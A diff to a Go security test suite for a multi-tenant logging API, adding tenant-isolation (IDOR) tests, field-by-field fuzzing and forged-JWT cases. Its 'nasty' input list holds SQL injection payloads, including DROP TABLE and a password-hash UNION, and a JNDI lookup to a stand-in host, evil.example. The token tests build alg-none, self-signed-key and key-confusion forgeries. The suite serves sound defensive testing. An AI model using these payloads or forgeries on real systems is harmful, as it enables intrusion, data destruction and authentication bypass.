@@ -1,10 +1,15 @@
 package main
 
 import (
+	"crypto/ed25519"
+	"crypto/hmac"
+	"crypto/rand"
+	"crypto/sha256"
 	"encoding/base64"
 	"encoding/json"
 	"fmt"
 	"io"
+	"maps"
 	"net/http"
 	"net/netip"
 	"net/url"
@@ -560,6 +565,62 @@ func TestIDOR(t *testing.T) {
 	}
 }
 
+// TestIDORInParameters names what is another company's in a query or a body, and what nobody has: the answers are the same, and nothing is given.
+func TestIDORInParameters(t *testing.T) {
+	s := newScene(t)
+	_, victim := s.caller("cadmin")
+	b, _ := s.caller("other") // a CompanyAdmin of Beta
+	theirs, absent := fmt.Sprint(s.alpha.ID), "987654"
+	forget := regexp.MustCompile(`"request_id":"[^"]*"|[0-9a-f]{16,}|\d+|Alpha|Nothing`)
+	ask := func(method, path, body string) string {
+		r := b.ask(method, path, body)
+		if strings.Contains(r.body, victim.Username) || strings.Contains(r.body, victim.Email) {
+			t.Errorf("%s %s %s tells of the victim: %s", method, path, body, r.body)
+		}
+		return fmt.Sprint(r.status, " ", forget.ReplaceAllString(r.body, "…"))
+	}
+	same := func(method, path, body string, refused bool, holes ...[2]string) {
+		t.Helper()
+		for _, hole := range holes {
+			got, none := ask(method, strings.ReplaceAll(path, "{}", hole[0]), strings.ReplaceAll(body, "{}", hole[0])), ask(method, strings.ReplaceAll(path, "{}", hole[1]), strings.ReplaceAll(body, "{}", hole[1]))
+			if got != none {
+				t.Errorf("%s %s %s can tell what is there:\n%s\n%s", method, path, body, got, none)
+			}
+			if refused && got < "4" {
+				t.Errorf("%s %s %s with %s: %s", method, path, body, hole[0], got)
+			}
+		}
+	}
+	ids := [2]string{theirs, absent}
+	for _, path := range []string{"/api/v1/users?company={}", "/api/v1/users?total=true&company={}", "/api/v1/companies?q={}", "/api/v1/keys?company={}", "/api/v1/audit?company={}"} {
+		same(http.MethodGet, path, "", strings.Contains(path, "company={}"), ids)
+	}
+	for _, path := range []string{"/api/v1/audit?actor_id={}", "/api/v1/audit?target_kind=user&target_id={}"} {
+		same(http.MethodGet, path, "", false, [2]string{fmt.Sprint(victim.ID), absent})
+	}
+	for _, path := range []string{"/api/v1/audit?actor={}", "/api/v1/audit?q={}", "/api/v1/users?q={}"} {
+		same(http.MethodGet, path, "", false, [2]string{victim.Username, "nobody-at-all"})
+	}
+	for _, path := range []string{"/api/v1/reports/totals?from=2026-01-01&to=2026-01-02&company={}", "/api/v1/reports?company={}", "/api/v1/events?company={}"} {
+		same(http.MethodGet, path, "", !strings.HasPrefix(path, "/api/v1/reports?"), ids, [2]string{"Alpha", "Nothing"})
+	}
+	member := func(role string) string {
+		return `{"username":"` + s.unique("new") + `","email":"` + s.unique("new") + `@example.com","memberships":[{"company_id":{},"role":"` + role + `"}]}`
+	}
+	for _, role := range []string{"User", "CompanyAdmin"} {
+		same(http.MethodPost, "/api/v1/users", member(role), true, ids)
+	}
+	waiting := fmt.Sprintf("/api/v1/users/%d", victim.ID)
+	for _, body := range []string{`{"memberships":[{"company_id":{},"role":"User"}]}`} {
+		same(http.MethodPost, waiting+"/approve", body, true, ids)
+	}
+	same(http.MethodPut, waiting+"/memberships/{}", `{"role":"CompanyAdmin"}`, true, ids)
+	same(http.MethodPut, fmt.Sprintf("/api/v1/users/{}/memberships/%d", s.beta.ID), `{"role":"CompanyAdmin"}`, true, [2]string{fmt.Sprint(victim.ID), absent})
+	if now := must(s.store.GetUser(t.Context(), localActor(), victim.ID)); now.Epoch != victim.Epoch || len(now.Memberships) != len(victim.Memberships) {
+		t.Errorf("the victim has changed: %+v", now)
+	}
+}
+
 // nasty are texts that mean something to databases, browsers, logs or file systems.
 var nasty = []string{
 	`' OR '1'='1`, `'; DROP TABLE users; --`, `" OR 1=1 --`, `1; SELECT pg_sleep(5)`, `\'; --`, `%`, `_`, `!%`, `') UNION SELECT password_hash FROM users --`, `${jndi:ldap://evil.example/a}`,
@@ -625,18 +686,16 @@ func TestNastyTexts(t *testing.T) {
 	s := newScene(t)
 	b, who := s.caller("global")
 	for _, d := range rest.Describe() {
-		if d.Body == nil || strings.HasPrefix(d.Path, "/api/v1/auth/") || strings.HasPrefix(d.Path, "/api/v1/me/password") {
+		if d.Body == nil || strings.HasPrefix(d.Path, "/api/v1/auth/") && d.Path != "/api/v1/auth/register" {
 			continue // those below
 		}
 		i := slices.IndexFunc(scenarios, func(sc scenario) bool { return sc.pattern() == d.Method+" "+d.Path })
 		for name, kind := range fieldsOf(d.Body) {
-			if kind.Kind() == reflect.Pointer {
-				kind = kind.Elem()
-			}
-			if kind.Kind() != reflect.String {
-				continue
-			}
 			for _, text := range nasty {
+				value, takesText := filled(kind, text)
+				if !takesText {
+					break
+				}
 				b, who := b, who
 				if strings.HasPrefix(d.Path, "/api/v1/me/sessions") {
 					b, who = s.caller("global") // whose session it ends
@@ -646,7 +705,7 @@ func TestNastyTexts(t *testing.T) {
 				if err := json.Unmarshal([]byte(body+strings.Repeat("{}", 1-min(1, len(body)))), &fields); err != nil {
 					t.Fatal(err)
 				}
-				fields[name] = text
+				fields[name] = value
 				r := b.ask(method, address, jsonOf(fields))
 				if r.status >= 500 || r.header.Get("X-Content-Type-Options") != "nosniff" || r.body != "" && !strings.HasPrefix(r.header.Get("Content-Type"), "application/json") ||
 					strings.Contains(fmt.Sprint(r.header), "Set-Cookie: x=y") {
@@ -682,6 +741,94 @@ func TestNastyTexts(t *testing.T) {
 	}
 	if check := b.want(200, http.MethodGet, "/api/v1/audit/verify", ""); check.field("broken") != nil {
 		t.Errorf("the audit trail: %s", check.body)
+	}
+}
+
+// filled is a value of a body's field in which every text is the one given; takesText: there is any.
+func filled(kind reflect.Type, text string) (value any, takesText bool) {
+	switch kind.Kind() {
+	case reflect.Pointer:
+		return filled(kind.Elem(), text)
+	case reflect.String:
+		return text, true
+	case reflect.Slice:
+		if kind.Elem().Kind() == reflect.Uint8 { // JSON of any kind
+			return map[string]any{"id": text, "type": text, "response": map[string]any{"clientDataJSON": text, text: text}}, true
+		}
+		one, takesText := filled(kind.Elem(), text)
+		return []any{one, one}, takesText
+	case reflect.Struct:
+		fields := map[string]any{}
+		for name, field := range fieldsOf(kind) {
+			if one, takes := filled(field, text); takes {
+				fields[name], takesText = one, true
+			}
+		}
+		return fields, takesText
+	case reflect.Map:
+		one, takesText := filled(kind.Elem(), text)
+		return map[string]any{text: one}, takesText
+	}
+	return nil, false
+}
+
+// TestNastyEvents sends them as events, in every field, and asks the viewer's routes for them in every parameter.
+func TestNastyEvents(t *testing.T) {
+	s := newScene(t)
+	b, _ := s.caller("global")
+	_, secret := s.people.key(s.beta.ID, authsvc.ScopeIngest|authsvc.ScopeRead)
+	program := s.program("X-API-Key", secret)
+	fields := []string{"EventType", "UserName", "ComputerName", "Domain", "SID", "IPAddress", "PublicIP", "LogonId", "LogonType", "Status", "SubStatus", "SourceHost", "RecordID", "Channel", "Provider", "AgentVersion", "Timestamp", "retry"}
+	sent := 0
+	for _, text := range nasty {
+		for _, field := range append(fields, text) {
+			event := map[string]any{"EventType": "Logon", "UserName": "u", "ComputerName": "c", "Timestamp": time.Now().UTC().Format(time.RFC3339)}
+			event[field] = text
+			for _, path := range []string{"/api/log_event", "/api/v1/events"} {
+				r := program.ask(http.MethodPost, path, jsonOf(event))
+				if r.status >= 500 || !json.Valid([]byte(r.body)) || !strings.HasPrefix(r.header.Get("Content-Type"), "application/json") || r.header.Get("X-Content-Type-Options") != "nosniff" ||
+					!strings.Contains(r.header.Get("Content-Security-Policy"), "default-src 'none'") {
+					t.Errorf("%s with %s=%q: %d %v %s", path, field, text, r.status, r.header, r.body)
+				}
+				if r.status == http.StatusCreated {
+					sent++
+				}
+			}
+		}
+	}
+	if sent < len(nasty) {
+		t.Errorf("%d events were taken: the test shows nothing", sent)
+	}
+	if err := s.writer.Flush(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	day := time.Now().UTC()
+	base := url.Values{"company": {"Beta"}, "from": {day.AddDate(0, 0, -1).Format(time.DateOnly)}, "to": {day.AddDate(0, 0, 1).Format(time.DateOnly)}}
+	params := []string{"company", "from", "to", "at", "user", "computer", "site", "type", "q", "group_by", "split", "timezone", "format", "limit", "cursor", "sort", "order", "elevated", "unknown"}
+	for i := range scenarios {
+		method, path, _ := strings.Cut(scenarios[i].route, " ")
+		if method != http.MethodGet || path != "/api/v1/events" && !strings.HasPrefix(path, "/api/v1/reports/") || strings.Contains(path, "{") {
+			continue
+		}
+		for _, param := range params {
+			for _, text := range nasty {
+				q := maps.Clone(base)
+				q.Set(param, text)
+				r := b.ask(http.MethodGet, path+"?"+q.Encode(), "")
+				if r.status >= 500 || !json.Valid([]byte(r.body)) || strings.Contains(fmt.Sprint(r.header), "Set-Cookie: x=y") {
+					t.Errorf("%s?%s=%q: %d %s", path, param, text, r.status, r.body)
+				}
+			}
+		}
+		// All of what was stored, in both forms: as JSON no page, as CSV a file.
+		for _, format := range []string{"json", "csv"} {
+			q := maps.Clone(base)
+			q.Set("format", format)
+			r := b.ask(http.MethodGet, path+"?"+q.Encode(), "")
+			if kind := r.header.Get("Content-Type"); r.status < 300 && !strings.HasPrefix(kind, "application/json") && !strings.HasPrefix(kind, "text/csv") || r.status >= 500 || r.header.Get("X-Content-Type-Options") != "nosniff" {
+				t.Errorf("%s as %s: %d %v", path, format, r.status, r.header)
+			}
+		}
 	}
 }
 
@@ -730,15 +877,45 @@ func TestForgedTokens(t *testing.T) {
 	plain := must(base64.RawURLEncoding.DecodeString(parts[1]))
 	seg := func(text string) string { return base64.RawURLEncoding.EncodeToString([]byte(text)) }
 	asAdmin := seg(strings.NewReplacer(fmt.Sprintf(`"sub":"%d"`, u.ID), `"sub":"1"`, fmt.Sprintf(`"sub":%d`, u.ID), `"sub":1`).Replace(string(plain)))
+	// A key of the forger's own, in the header, with which the token is really signed: under the name that it has there, and under that of ours.
+	public, private, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var head struct {
+		KeyID string `json:"kid"`
+	}
+	if err := json.Unmarshal(must(base64.RawURLEncoding.DecodeString(parts[0])), &head); err != nil || head.KeyID == "" {
+		t.Fatal(head, err)
+	}
+	own := func(kid, payload string) string {
+		head := seg(jsonOf(map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": kid, "jwk": map[string]any{"kty": "OKP", "crv": "Ed25519", "kid": kid, "x": base64.RawURLEncoding.EncodeToString(public)}}))
+		return head + "." + payload + "." + base64.RawURLEncoding.EncodeToString(ed25519.Sign(private, []byte(head+"."+payload)))
+	}
+	symmetric := func(secret []byte, jwk string) string {
+		head := seg(`{"alg":"HS256","typ":"JWT","kid":"` + head.KeyID + `"` + jwk + `}`)
+		mac := hmac.New(sha256.New, secret)
+		_, _ = mac.Write([]byte(head + "." + asAdmin))
+		return head + "." + asAdmin + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
+	}
+	sealer := must(authsvc.NewSealer(must(authsvc.LoadSecretKey("", p.dataDir))...))
+	ours, ok := ed25519.NewKeyFromSeed(sealer.Keys(authsvc.PurposeAccessToken)[0]).Public().(ed25519.PublicKey)
+	if !ok {
+		t.Fatal("no public key")
+	}
 	for name, forged := range map[string]string{
-		"another person":   parts[0] + "." + asAdmin + "." + parts[2],
-		"alg none":         seg(`{"alg":"none","typ":"JWT"}`) + "." + asAdmin + ".",
-		"alg None, signed": seg(`{"alg":"None","typ":"JWT"}`) + "." + parts[1] + "." + parts[2],
-		"no signature":     parts[0] + "." + parts[1] + ".",
-		"another alg":      seg(`{"alg":"RS256","typ":"JWT"}`) + "." + parts[1] + "." + parts[2],
-		"a key of its own": seg(`{"alg":"HS256","typ":"JWT","jwk":{"kty":"oct","k":"AAAA"}}`) + "." + parts[1] + "." + parts[2],
-		"two parts":        parts[0] + "." + parts[1],
-		"cut":              access[:len(access)-2],
+		"its own key":               own("mine", asAdmin),
+		"its own key as ours":       own(head.KeyID, asAdmin),
+		"its own key, same content": own(head.KeyID, parts[1]),
+		"a secret of its own":       symmetric([]byte{0, 0, 0}, `,"jwk":{"kty":"oct","k":"AAAA"}`),
+		"our public key as secret":  symmetric(ours, ""),
+		"another person":            parts[0] + "." + asAdmin + "." + parts[2],
+		"alg none":                  seg(`{"alg":"none","typ":"JWT"}`) + "." + asAdmin + ".",
+		"alg None, signed":          seg(`{"alg":"None","typ":"JWT"}`) + "." + parts[1] + "." + parts[2],
+		"no signature":              parts[0] + "." + parts[1] + ".",
+		"another alg":               seg(`{"alg":"RS256","typ":"JWT"}`) + "." + parts[1] + "." + parts[2],
+		"two parts":                 parts[0] + "." + parts[1],
+		"cut":                       access[:len(access)-2],
 	} {
 		if r := p.program("Authorization", "Bearer "+forged).ask(http.MethodGet, "/api/v1/me", ""); r.status != 401 {
 			t.Errorf("%s: %d %s", name, r.status, r.body)
